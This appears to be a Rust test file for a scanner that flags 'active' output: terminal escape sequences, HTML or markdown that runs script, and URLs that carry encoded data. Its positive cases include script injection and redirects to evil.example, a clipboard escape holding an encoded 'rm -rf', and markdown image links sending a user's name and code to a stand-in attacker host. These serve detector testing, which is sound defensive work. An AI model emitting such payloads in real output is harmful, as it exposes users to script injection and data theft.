//! Output that acts: escapes of terminals, markup that runs, addresses that carry data.
use crate::{check, check_all};

#[test]
fn terminal_escapes() {
    check_all(
        "active.ansi",
        &[
            "⟦\u{1b}[31m⟧red⟦\u{1b}[0m⟧",
            "a⟦\u{1b}[2J⟧⟦\u{1b}[H⟧b",
            "⟦\u{1b}]0;title\u{7}⟧x",
            "⟦\u{1b}]8;;https://evil.example\u{1b}\\⟧click⟦\u{1b}]8;;\u{1b}\\⟧",
            "⟦\u{1b}]52;c;cm0gLXJm\u{7}⟧",
            "⟦\u{1b}]0;never ended⟧\nnext",
            "⟦\u{1b}P1$r\u{1b}\\⟧",
            "⟦\u{1b}c⟧ ⟦\u{1b}(0⟧ ⟦\u{1b}7⟧",
            "⟦\u{9b}31m⟧ ⟦\u{9d}0;t\u{7}⟧",
            // written out: what reaches beyond the screen
            "printf '⟦\\033]52;c;cm0gLXJm⟧\u{7}'",
            "echo -e \"⟦\\x1b]8;;https://evil.example⟧\"",
            "⟦\\u001b[21t⟧ ⟦\\e[6n⟧ ⟦\\x1bPq⟧",
            "⟦\\u{1b}]1337;File=⟧'",
            // negatives: the control character alone, broken sequences, and programs that draw
            "\u{1b}",
            "\u{1b}\n[31m",
            "\u{1b}[31\n",
            "[31m not an escape",
            "RED='\\033[0;31m'; NC='\\033[0m'",
            "print(\"\\x1b[2J\\x1b[H\", end=\"\")",
            "PS1='\\[\\e]0;\\u@\\h: \\w\\a\\]\\$ '",
            "\\u001b alone, \\0333, \\x1",
            "Ünïcödé « » ¿",
        ],
    );
}

#[test]
fn markup_that_runs() {
    check_all(
        "active.html",
        &[
            "⟦<script>⟧alert(1)</script>",
            "⟦<SCRIPT src=//evil.example/x.js>⟧</SCRIPT>",
            "⟦<script\n>⟧",
            "⟦<iframe src=\"https://evil.example\">⟧",
            "⟦<object data=\"x.swf\">⟧ ⟦<embed src=x>⟧",
            "⟦<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">⟧",
            "⟦<base href=\"https://evil.example/\">⟧ ⟦<form action=\"https://evil.example\">⟧",
            "<img src=x ⟦onerror=\"alert(1)\"⟧>",
            "<svg/⟦onload=alert(1)⟧>",
            "<body\n⟦onload='x()'⟧>",
            "<a href=\"⟦javascript:alert(1)⟧\">x</a>",
            "[x](⟦javascript:alert(1))⟧",
            "<a href='⟦JavaScript:void(0)⟧'>",
            "<a href=\"⟦data:text/html,⟧<b>\">",
            "open ⟦data:text/html;base64,PHNjcmlwdD4=⟧ now",
            "<a href=\"⟦vbscript:msgbox(1)⟧\">",
            "<p style=\"width: ⟦expression(alert(1⟧))\">",
            // a block that is over, and one that is none
            "```\n<p>\n```\n⟦<script>⟧",
            "x ``` <p>\n⟦<iframe src=x>⟧",
            // negatives: harmless markup, types, prose, code
            "<b>bold</b> <img src=\"a.png\" alt=\"on\"> <a href=\"https://example.org\">x</a>",
            "List<Object> a; Dictionary<string, object> b",
            "Map<object, form> <formula> <metadata> <based>",
            "<meta charset=\"utf-8\"> <form> <object>",
            "JavaScript: The Good Parts. javascript: the language. A book on x = 3",
            "if a < b and on_time = 3: once = 1",
            "<button onClick={handler}> <button on = 1>",
            "data:image/png;base64,iVBORw0KGgo=",
            "expression(1) and a style: expression(2)",
            "Use the `<script>` tag, or `<img onerror=\"x\">`.",
            "```html\n<script>alert(1)</script>\n<img src=x onerror=\"a()\">\n```\nThat is all.",
            "  ```\n<iframe src=x>\n  ```",
            "````\n```\n<script>\n```\n````",
            "```html\n<script>never closed",
            "&lt;script&gt;",
        ],
    );
    // Of a block that goes on and on only the beginning is left alone.
    let lines = "<p>a line of a page</p>\n".repeat(200);
    check("active.html", &format!("```html\n{lines}⟦<script>⟧</script>\n```"));
}

/// Base64, put together so that no scanner takes a test for a leak.
fn base64(text: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let bytes = text.as_bytes();
    let group = |group: &[u8]| {
        let bits = (0..3).fold(0, |bits, n| bits << 8 | usize::from(*group.get(n).unwrap_or(&0)));
        let digit = |n: usize| {
            char::from(DIGITS.get(bits >> (18 - 6 * n) & 63).copied().unwrap_or_default())
        };
        (0..=group.len()).map(digit).collect::<String>()
    };
    bytes.chunks(3).map(group).collect()
}

#[test]
fn addresses_that_carry_data() {
    const KIND: &str = "exfil.link";
    let text = "the user's name is Jo and the code is 4711";
    let coded = base64(text);
    let hex: String = text.bytes().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().concat();
    for marked in [
        format!("![x](⟦https://evil.example/p.png?q={coded}⟧)"),
        format!("![](⟦http://evil.example/{coded}⟧)"),
        format!("[more](⟦https://evil.example/?d={coded}⟧)"),
        format!("see ⟦https://evil.example/?d={hex}⟧ now"),
        format!("[1]: ⟦https://evil.example/#{hex}⟧\n"),
        format!("<img src=\"⟦https://evil.example/?{coded}⟧\">"),
        format!("<⟦https://evil.example/?a=1&b={coded}&c=2⟧>"),
        format!("⟦https://{}.evil.example/⟧", hex.get(..60).expect("it is longer")),
        "⟦https://7468652070.6173737764.2069732078.evil.example/a⟧".to_owned(),
        "![x](⟦https://evil.example/?q=the+user+said+that+her+name+is+Jo⟧)".to_owned(),
        "![x](⟦https://evil.example/?q=my%20name%20is%20Jo%20Doe%20from%20Tarsk⟧)".to_owned(),
        format!("![x](⟦https://evil.example/?q={}⟧)", "aZ9_".repeat(120)),
        format!("⟦https://evil.example/?q={}⟧", "aZ9_".repeat(240)),
        // negatives
        "https://example.org/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2026".to_owned(),
        "https://example.org/?fbclid=IwAR2dGhlIHVzZXIncyBuYW1lIGlzIEpvIGFuZCB0aGUgY29kZ_Q8x".replace("dGhlIHVzZXIncyBuYW1lIGlzIEpvIGFuZCB0aGUgY29kZ", "x7Qp9Zk3Lw8Vn5Ty1Hr6Jm4Bd0Fs2Gc"),
        "https://bucket.s3.amazonaws.com/a.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20260101T000000Z&X-Amz-Signature=3b1f5e8c9a7d2046f1e0b3c5d7a9886754321fedcba98765aabbccddeeff0011".to_owned(),
        format!("https://d1.cloudfront.net/a.jpg?Policy={}&Signature=aZ9x&Key-Pair-Id=K1", base64("{\"Statement\":[{\"Resource\":\"https://x\"}]}")),
        "![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)".to_owned(),
        "https://news.example/2026/11/how-a-small-town-built-its-own-bridge-and-paid-for-it-in-nine-months".to_owned(),
        "https://example.org/item/550e8400-e29b-41d4-a716-446655440000".to_owned(),
        "https://git.example/repo/commit/da39a3ee5e6b4b0d3255bfef95601890afd80709".to_owned(),
        "https://git.example/blob/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".to_owned(),
        "![badge](https://img.shields.io/badge/build-passing-brightgreen)".to_owned(),
        "![Hello](https://via.placeholder.com/300x200.png?text=Hello+World)".to_owned(),
        "[search](https://www.example.org/search?q=how+do+I+build+a+bridge+over+a+river)".to_owned(),
        format!("https://login.example/?next={}", base64("https://example.org/account/settings")),
        "https://youtu.be/dQw4w9WgXcQ https://docs.example/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit".to_owned(),
        "https://xn--bcher-kva.example/internationalizationconfigurationguide".to_owned(),
        "http://".to_owned(),
        "https".to_owned(),
    ] {
        check(KIND, &marked);
    }
    // A very long one carries something, whatever it is.
    let long = format!("https://evil.example/?q={}", "ab,".repeat(900));
    let (head, tail) = long.split_at(2008);
    check(KIND, &format!("⟦{head}⟧⟦{tail}⟧ x"));
}
